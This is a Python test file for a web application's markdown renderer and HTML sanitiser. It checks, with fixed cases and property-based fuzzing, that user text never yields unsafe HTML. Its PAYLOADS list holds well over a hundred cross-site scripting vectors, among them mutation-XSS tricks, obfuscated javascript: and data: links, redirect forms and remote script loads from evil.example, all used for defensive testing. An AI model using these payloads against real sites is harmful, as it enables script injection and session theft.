"""Whatever people write, the HTML holds only what is allowed.

The judge is a browser's parsing algorithm, not a search for suspicious words: payloads may well be shown as text.
"""

import re
from collections.abc import Iterator
from typing import Any

import pytest
from bleach._vendor import html5lib
from hypothesis import example, given, settings
from hypothesis import strategies as st

from app.lib.characters import clean_characters
from app.lib.markup import MAX_BRACKETS, MAX_SOURCE, render
from app.lib.markup.limits import split
from app.lib.markup.links import is_safe
from app.lib.markup.parsing import parse, to_html
from app.lib.markup.sanitising import clean, sanitise

TAGS = {"a", "blockquote", "br", "code", "em", "h3", "h4", "hr", "li", "ol", "p", "pre", "s", "strong", "ul"}
REL = "nofollow noopener noreferrer"
ADDRESS = re.compile(r"(https?://[^/\\]|mailto:|tel:|/(?![/\\])|[?#]|[^:/?#\\]+([/?#]|$))", re.IGNORECASE)


def elements(html: str) -> Iterator[Any]:
    """Parse as a browser would and yield every element."""
    tree = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    yield from list(tree.iter())[1:]


def assert_harmless(html: str) -> None:
    for element in elements(html):
        assert element.tag in TAGS, element.tag
        attributes = dict(element.attrib)
        if element.tag == "a":
            href = attributes.pop("href", "/")
            assert ADDRESS.match(href), href
            assert not re.search(r"[\x00-\x20\x7f]", href), href
            assert attributes.pop("class", "topic") in ("topic", "mention")
            is_external = href.lower().startswith("http")
            assert attributes.pop("rel", None) == (REL if is_external else None)
            assert attributes.pop("target", None) == ("_blank" if is_external else None)
        if element.tag == "ol":
            assert attributes.pop("start", "1").isdigit()
        assert attributes == {}
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufeff]", html)


PAYLOADS = [
    # Elements and event handlers.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=`javascript:alert(1)`>",
    "<img src=javascript:alert&#40;1&#41;>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<base href='https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style='background:url(javascript:alert(1))'>",
    "<p style=position:fixed;inset:0>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://x' onclick=alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1)>x</x>",
    # What the page's own scripts would act on.
    "<div hx-get=/sign-out hx-trigger=load>",
    "<a data-hx-post=/items/1/like data-controller=like href=/>x</a>",
    "<form id=csrf name=token><input name=attributes></form>",
    "<a id=x name=y class=button href=/>x</a>",
    # Mutation.
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "</p><img src=x onerror=alert(1)>",
    "</code></pre><script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onclick="alert(1)\nx\n```',
    "`</code><script>alert(1)</script>`",
    # Schemes.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](java\u00adscript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](&#160;javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\\\nscript:alert(1)>)",
    "[x](javascript\\:alert(1))",
    "[x](javascript://x.example/%0aalert(1))",
    "[x](ｊavascript:alert(1))",
    "[x](javascript：alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,AAAA)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](view-source:https://x.example)",
    "[x](blob:https://x.example/1)",
    "[x](file:///etc/passwd)",
    "[x](filesystem:https://x.example/1)",
    "[x](feed:javascript:alert(1))",
    "[x](jar:https://x.example!/)",
    "[x](intent://x#Intent;scheme=javascript;end)",
    "[x](ms-word:ofe|u|https://x.example)",
    "[x](http:alert(1))",
    "[x](https:///evil.example)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/&#92;evil.example)",
    "[x](/&Tab;/evil.example)",
    "[x](:javascript:alert(1))",
    "[x](https://x.example' onmouseover='alert(1))",
    '[x](https://x.example" onmouseover="alert(1))',
    '[x](https://x.example "onmouseover=alert(1)")',
    "[x](https://x.example '\"><script>alert(1)</script>')",
    "[x](https://x.example/<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://x.example/"onmouseover="alert(1)>',
    '<x@x.example"onmouseover="alert(1)>',
    'https://x.example/"onmouseover="alert(1)',
    "https://x.example/<script>alert(1)</script>",
    "javascript://x.example/%0aalert(1)",
    'www.x.com"onmouseover=alert(1)',
    "mailto:x@x.com?subject=<script>alert(1)</script>",
    # Pictures and nesting.
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x"onerror="alert(1)](https://x.example/a.png)',
    "![<img src=x onerror=alert(1)>](https://x.example/a.png)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[[x](javascript:alert(1))](https://x.example)",
    "[a](https://x.example/[b](javascript:alert(1)))",
    "[<script>alert(1)</script>](https://x.example)",
    "[x]: javascript:alert(1)\n[x]",
    "[x][y]\n\n[y]: data:text/html,x",
    # Topics and mentions.
    '#"><script>alert(1)</script>',
    '#a"onclick=alert(1)',
    '@a"><img src=x onerror=alert(1)>',
    "@javascript:alert(1)",
    "#javascript:alert(1)",
    "[#a](javascript:alert(1)) @b",
    # Characters.
    "\u202ecod.exe",
    "&#x202e;cod.exe &#0; &#x1b; &#xd800;",
    "\ud83d\udc00\udfff\x00\x1b[31m",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028<script>alert(1)</script>",
    "<\u0338script> >\u0338",
    "\u0338".join("<p>a</p>"),
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_becomes_text(payload: str) -> None:
    for source in (
        payload,
        f"**{payload}**",
        f"- {payload}",
        f"> {payload}",
        f"[{payload}](/x)",
        "a " * (MAX_SOURCE // 2) + payload,
    ):
        assert_harmless(render(source).html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_in_a_name_becomes_text(payload: str) -> None:
    assert_harmless(render("@анна", names={"анна": payload}).html)


@pytest.mark.parametrize(
    "html",
    [
        '<a class="topic" href="/topics/x" onclick="alert(1)">x</a>',
        '<a class="topic" href="/topics/x"onclick="alert(1)">x</a>',
        '<a class="button" href="javascript:alert(1)" hx-get="/">x</a>',
        '<p class="x" id="y" name="z" style="color:red" data-x="1">x</p>',
        '<ol start="1;alert(1)"><li>x</li></ol>',
        '<a href="https://x.example" rel="opener" target="_top">x</a>',
        "<img src=x onerror=alert(1)><script>alert(1)</script>",
        "<p>&#x3c;script&#x3e;</p><svg onload=alert(1)>",
    ],
)
def test_the_sanitiser_does_not_trust_the_parser(html: str) -> None:
    cleaned = sanitise(html)
    for element in elements(cleaned):
        assert element.tag in TAGS
        assert (
            not {"onclick", "hx-get", "id", "name", "style", "data-x", "onerror", "onload"}
            & element.attrib.keys()
        )
        assert element.attrib.get("class", "topic") == "topic"
        assert element.attrib.get("rel", REL) == REL
        assert element.attrib.get("target", "_blank") == "_blank"
        assert "javascript" not in element.attrib.get("href", "")
        assert "start" not in element.attrib


ANY_TEXT = st.text(alphabet=st.characters())  # lone surrogates included
PIECES = st.sampled_from(
    [
        *PAYLOADS,
        *"[]()<>*_`#@\"'&\\ a\n",
        *("](", "![", "**", "~~", "```", "\n\n", "> ", "- ", "1. ", "#тема", "@анна", "&amp;", "&#58;"),
        *("https://", "javascript:", "www.", "x.com"),
    ]
)
HOSTILE = st.lists(PIECES, max_size=25).map("".join)


@given(ANY_TEXT | HOSTILE)
@example("")
def test_any_text_renders_to_harmless_html(source: str) -> None:
    rendered = render(source, names={"анна": "Анна"})
    assert_harmless(rendered.html)
    assert len(rendered.excerpt) <= 200


@given(HOSTILE)
@settings(max_examples=200)
def test_the_cleaner_is_spared_only_where_it_would_change_nothing(source: str) -> None:
    html = to_html(parse(clean_characters(source)), None)
    assert sanitise(html) == clean(html)


@given(ANY_TEXT | HOSTILE)
def test_a_safe_address_needs_no_second_look(url: str) -> None:
    if is_safe(url):
        assert ADDRESS.match(url)


@pytest.mark.parametrize(
    "source", ["[" * 50_000, "*" * 100_000, ">" * 100_000, "`" * 100_000, "![" * 50_000, "#a " * 50_000]
)
def test_only_a_bounded_beginning_is_parsed(source: str) -> None:
    markup, rest = split(source)
    assert markup + rest == source
    assert len(markup) <= MAX_SOURCE
    html = render(source).html
    assert_harmless(html)
    assert html.endswith(f"{rest[-1000:].replace('>', '&gt;')}</p>\n")


def test_brackets_beyond_the_limit_are_not_looked_at() -> None:
    assert render("[" * 9000).html.count("[") == 9000
    assert render("[a](/b)" * (MAX_BRACKETS + 1)).html.count("<a ") == MAX_BRACKETS


def test_deep_nesting_is_flattened() -> None:
    html = render("> " * 3000 + "a").html
    assert html.count("<blockquote>") <= 20
